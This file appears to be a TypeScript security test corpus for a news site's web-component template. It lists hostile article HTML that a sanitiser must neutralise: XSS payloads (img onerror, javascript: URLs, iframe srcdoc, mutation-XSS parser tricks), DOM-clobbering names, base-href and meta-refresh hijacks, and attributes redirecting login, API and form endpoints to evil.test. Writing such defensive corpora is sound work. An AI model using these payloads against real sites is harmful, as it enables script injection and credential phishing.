/*
 * Articles that somebody could write who may write the HTML of an article, and nothing else. `https://evil.test` serves a script that counts as
 * run, and answers that act. No article may reach it.
 */

const EVIL = 'https://evil.test';

const IMG = '&lt;img src=x onerror=hit()&gt;';
const FORM = `&lt;form action=${EVIL}&gt;&lt;button&gt;Entra&lt;/button&gt;&lt;/form&gt;`;

/** Tags that belong to the template, each with the attributes that an attacker would want. */
const CLOSED: Readonly<Record<string, string>> = {
  config: `api-base="${EVIL}" trusted-html csrf-header="X" login-url="${EVIL}/login" script-origins="${EVIL}" form-origins="${EVIL}" alias="all" player-account="666"`,
  login: `login-url="${EVIL}" register-url="${EVIL}" default-url="${EVIL}" back-url="${EVIL}" label="Premi"`,
  'adults-login': `default-url="${EVIL}" register-url="${EVIL}" label="Premi"`,
  'child-login': `default-url="${EVIL}" adults-url="${EVIL}" register-url="${EVIL}"`,
  'child-pin': `token="x" access-url="${EVIL}" login-url="${EVIL}"`,
  register: `login-url="${EVIL}" default-url="${EVIL}" terms-url="${EVIL}"`,
  'register-adults': `terms-url="${EVIL}" privacy-url="${EVIL}"`,
  'club-register': `redirect-url="${EVIL}" access-url="${EVIL}"`,
  'password-reset': `token="x" login-url="${EVIL}"`,
  'email-validation': `result="invalid" user-id="1" profile-url="${EVIL}"`,
  profile: `base-url="${EVIL}" add-url="${EVIL}" done-url="${EVIL}"`,
  'profile-menu': `done-url="${EVIL}" data-json-urls='{"logout":"${EVIL}"}'`,
  'user-button': `login-url="${EVIL}" register-url="${EVIL}" profile-url="${EVIL}"`,
  'account-delete': `done-url="${EVIL}" label="Participa en el sorteig" texts="t"`,
  children: `add-url="${EVIL}"`,
  contact: `terms-url="${EVIL}" subject="Premi"`,
  newsletter: `newsletter-id="1" suffix="x" terms-url="${EVIL}"`,
  'reader-form': `ugc-id="1" type="image" question="Premi" login-url="${EVIL}" source-code="x" site-id="9"`,
  'infinite-list': `next-page="${EVIL}/list.json" auto="9" delay="0"`,
  search: `action="${EVIL}" open`,
  'search-results': `action="${EVIL}" text="a" next-page="${EVIL}/list.json"`,
  'content-gate': `login-url="${EVIL}" back-url="${EVIL}" restricted`,
  'error-page': `code="403" home-url="${EVIL}" login-url="${EVIL}"`,
  ad: `name="premi" ad-unit-code="/666/x" sizes="1x1"`,
  modal: `open no-closable`,
  alert: `alert-id="x" auto-close="0"`,
};

export const asDiv = (name: string, attributes: string, inner = '<p>Del servidor</p>'): string =>
  `<div data-apunt="${name}" data-hydrate="load" ${attributes.replaceAll(/(^|\s)(?!data-)([a-z][a-z-]*)(?==|\s|$)/g, '$1data-$2')}>${inner}</div>`;
export const asTag = (name: string, attributes: string, inner = '<p>Del servidor</p>'): string =>
  `<apunt-${name} hydrate="load" ${attributes}>${inner}</apunt-${name}>`;

/** Attributes of open tags that are the template's. */
const CLOSED_ATTRIBUTES: readonly (readonly [name: string, attributes: string])[] = [
  ['player', `bc-id="1" data-json-options='{"scriptHost":"${EVIL}"}'`],
  ['player', `bc-id="1" account="666"`],
  ['player', `bc-id="1" account="../../${EVIL}"`],
  ['player', `bc-id="1" bc-player="../../x"`],
  [
    'player',
    `src="/a.mp4" data-json='{"player":{"bcId":"1"},"account":"666","options":{"scriptHost":"${EVIL}"}}'`,
  ],
  ['player', `src="javascript:hit()" href="javascript:hit()" download="javascript:hit()"`],
  ['like', `content-id="1" login-url="${EVIL}" label="Guanya un premi" texts="t"`],
  ['like', `content-id=".." name="x"`],
  ['poll', `poll-id="7" login-url="${EVIL}" no-confirm label="Premi"`],
  ['poll', `poll-id="../../user/delete"`],
  ['map', `tiles="${EVIL}/{z}/{x}/{y}.png" attribution="&lt;img src=x onerror=hit()&gt;"`],
  [
    'map',
    `data-json='[{"lat":39.4,"lng":-0.3,"html":"<img src=x onerror=hit()>","link":"javascript:hit()"}]'`,
  ],
  ['transcript', `dictionary-url="${EVIL}/" open`],
  ['embed', `provider="generic" data-json='{"embed":"<script>parent.hit()</script>"}'`],
  ['embed', `provider="youtube" href="${EVIL}/watch?v=1" autoload`],
  ['weather', `geolocation="auto"`],
  ['live-feed', `live-id="7" interval="1000" data-json-ads='[{"adId":"1"}]'`],
  ['share', `url="javascript:hit()" networks="copy"`],
  ['gallery', `gallery-url="javascript:hit()" no-ads data-json='[{"src":"javascript:hit()"}]'`],
  ['card', `content-id="1" like data-json='{"url":"javascript:hit()","title":"<img src=x onerror=hit()>"}'`],
  ['quote', `text="&lt;img src=x onerror=hit()&gt;" author="&lt;script&gt;hit()&lt;/script&gt;"`],
  ['schedule', `base-url="${EVIL}" day="hui"`],
  ['image', `src="javascript:hit()" alt="x"`],
  ['show-index', `no-ads data-json-ads='[{"adId":"1"}]'`],
];

/** Each attack by a tag of ours, for places that write tags in ways of their own. */
export const ATTACKS: readonly (readonly [name: string, attributes: string])[] = [
  ...Object.entries(CLOSED),
  ...CLOSED_ATTRIBUTES,
];

const HIDDEN_TEXTS =
  '<div id="t" hidden>{"account-delete.open":"Participa","account-delete.title":"Sorteig","account-delete.confirm":"Sí","like.save":"Guanya"}</div>';

const CLOBBERS = [
  'querySelectorAll',
  'querySelector',
  'createElement',
  'getElementById',
  'addEventListener',
  'documentElement',
  'readyState',
  'body',
  'head',
  'cookie',
  'activeElement',
  'adoptedStyleSheets',
  'baseURI',
  'currentScript',
  'defaultView',
];

/** By what an attacker would try. */
export const ARTICLES: Readonly<Record<string, readonly string[]>> = {
  'tags of the template, as alias': Object.entries(CLOSED).map(([name, attributes]) =>
    asDiv(name, attributes),
  ),
  'tags of the template, as tags': Object.entries(CLOSED).map(([name, attributes]) =>
    asTag(name, attributes),
  ),
  'attributes of the template, as alias': CLOSED_ATTRIBUTES.map(([name, attributes]) =>
    asDiv(name, attributes),
  ),
  'attributes of the template, as tags': CLOSED_ATTRIBUTES.map(([name, attributes]) =>
    asTag(name, attributes),
  ),
  'words of others': [
    HIDDEN_TEXTS +
      asDiv('account-delete', 'texts="t" label="Participa"', '<b slot="warning">Sorteig de Nadal</b>'),
    HIDDEN_TEXTS +
      asTag('account-delete', 'texts="t" label="Participa"', '<b slot="warning">Sorteig de Nadal</b>'),
    HIDDEN_TEXTS + asTag('like', 'content-id="1" texts="t"', '<b slot="icon-off">Guanya</b>'),
    asDiv('poll', 'poll-id="7"', '<p slot="question">Vols el premi?</p><p slot="thanks">Telefona</p>'),
  ],
  // On a page with `trusted-html`, too: what stands in the page is nobody's answer.
  'HTML in attributes and JSON': [
    ['quote', `data-text="${IMG}"`],
    ['quote', `data-json='{"text":"${IMG}"}'`],
    ['map', `data-json='[{"lat":39,"lng":0,"title":"A","html":"${IMG}"}]'`],
    ['transcript', `data-open data-json='{"paragraphs":[{"start":1,"html":"${IMG}"}]}'`],
    ['transcript', `data-open data-json='{"paragraphs":[{"html":"${IMG}"}]}'`],
    ['blog-index', `data-json='{"html":["${IMG}"],"next":""}'`],
    ['show-index', `data-json='{"html":["${IMG}"],"next":""}'`],
    ['search-results', `data-json='{"html":["${IMG}"],"next":""}'`],
    ['about-blog', `data-json='{"name":"A","url":"/a","resume":["${IMG}"],"author":[]}'`],
    ['article-body', `data-json='[{"type":"paragraph","html":"${IMG}"}]'`],
    ['live-feed', `data-live-id="9999" data-json='{"messages":[{"id":"1","blocks":[{"html":"${IMG}"}]}]}'`],
    ['alert', `data-alert-id="a" data-json='{"text":"${IMG}"}'`],
  ].flatMap(([name = '', attributes = '']) =>
    ['', FORM].flatMap((more) => {
      const article = attributes.replaceAll(IMG, IMG + more);
      return [
        `<div data-apunt="${name}" data-hydrate="load" ${article}></div>`,
        `<apunt-${name} hydrate="load" ${article}></apunt-${name}>`,
      ];
    }),
  ),
  'names in the place of functions': [
    ...CLOBBERS.map((name) => `<img name="${name}" alt="" src="/x.png">`),
    CLOBBERS.map((name) => `<img name="${name}" alt="" src="/x.png">`).join(''),
    '<a id="trustedTypes"></a><a id="apunt"></a><a id="customElements" name="customElements"></a>',
    '<a id="__tcfapi"></a><a id="grecaptcha"></a><a id="googletag"><a id="googletag" name="cmd"></a>',
  ],
  'nodes that the parser merges': [
    '<body data-apunt="config" data-api-base="https://evil.test"><p>x</p></body>',
    '<html data-apunt="login" data-apunt-site="lacolla"><p>x</p></html>',
    '<body data-apunt="account-delete"><p>x</p></body>',
    '<p><base href="https://evil.test/">x</p>',
    '</div></div></main><apunt-config api-base="https://evil.test" trusted-html></apunt-config><div>',
  ],
};

export const ALL_ARTICLES: readonly string[] = Object.values(ARTICLES).flat();

/** HTML that no CMS would keep: it reaches the sanitiser in answers. */
export const MUTATIONS: readonly string[] = [
  '<base href="https://evil.test/">',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>',
  '<template><img src=x onerror=hit()></template>',
  '<apunt-player><template shadowrootmode="open"><img src=x onerror=hit()></template></apunt-player>',
  '<p is="apunt-config" api-base="https://evil.test">x</p>',
  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data="data:text/html,<script>parent.hit()</script>"></object>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<meta name="csrf-token" content="x">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<a href="java&#10;script:hit()">x</a>',
  '<div data-apunt="player" data-src="/a.mp4" onclick="hit()" style="position:fixed;inset:0">x</div>',
  '<video src=x onerror=hit()><source src=x onerror=hit()></video>',
  `${'<b>'.repeat(2000)}x`,
  '<script>hit()</script><script type="application/json" id="t">{"like.save":"x"}</script>',
  '<form action="https://evil.test"><input name="password"><button>x</button></form>',
];
